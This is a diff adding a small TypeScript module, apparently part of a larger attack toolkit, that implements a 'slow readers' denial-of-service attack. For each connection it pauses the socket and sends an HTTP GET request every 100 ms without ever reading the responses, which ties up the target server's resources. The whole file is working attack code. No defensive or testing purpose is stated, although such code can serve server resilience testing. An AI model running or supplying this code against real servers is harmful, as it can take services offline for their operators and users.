@@ -1,0 +1,10 @@
+import { type AttackOptions, onEachConnection, repeat, write } from "./attack.ts";
+
+/** Sends a request every 100 ms and reads no answer. */
+export function slowReaders(options: AttackOptions): Promise<void> {
+  const { path = "/" } = options;
+  return onEachConnection(options, (socket) => {
+    socket.pause();
+    return repeat(socket, 100, () => write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`));
+  });
+}
